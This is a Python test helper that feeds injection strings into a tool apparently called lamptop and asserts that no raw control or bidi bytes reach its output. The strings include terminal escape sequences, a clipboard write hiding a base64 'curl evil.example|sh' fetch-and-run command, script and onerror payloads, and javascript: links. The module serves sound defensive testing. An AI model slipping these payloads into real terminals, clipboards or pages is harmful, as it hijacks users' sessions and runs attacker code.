"""The hostile strings the tests send through every place lamptop reads and writes text, and
the check that none of their raw bytes came out the other side."""

from __future__ import annotations

import re

import pytest

ESC = "\x1b"
HOSTILE = [
    f"{ESC}]0;owned title\x07",  # OSC 0: window title
    f"{ESC}[2J{ESC}[H",  # clear the screen, cursor home
    f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",  # OSC 52: clipboard
    f"{ESC}P+q544e\x1b\\",  # DCS
    "\x9b2J\x9d0;c1 title\x9c",  # C1 CSI and OSC
    "abc\u202egnp.exe\u202c \u2066iso\u2069 \u200f",  # bidi override, isolate, mark
    "line\u2028two\u2029three\rfour\x08\x7f",  # separators, carriage return, backspace, DEL
    "[bold red]x[/]",
    "[@click=app.screenshot('victim.conf','/tmp')]click[/]",
    "stray [/] close",
    "/![x](https://evil.example/t.png)",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[link](javascript:alert(1)) https://evil.example/ www.evil.example",
    "| a | b |\n`code` ``",
    "nul\x00byte",
]
#: Raw bytes that must never appear in anything lamptop writes for a person or a terminal.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f]")


def assert_inert(text: str, where: str) -> None:
    bad = FORBIDDEN.search(text)
    if bad is not None:
        around = text[max(bad.start() - 20, 0) : bad.start() + 20]
        pytest.fail(f"{where}: raw {bad.group()!r} at {bad.start()}: {around!r}")
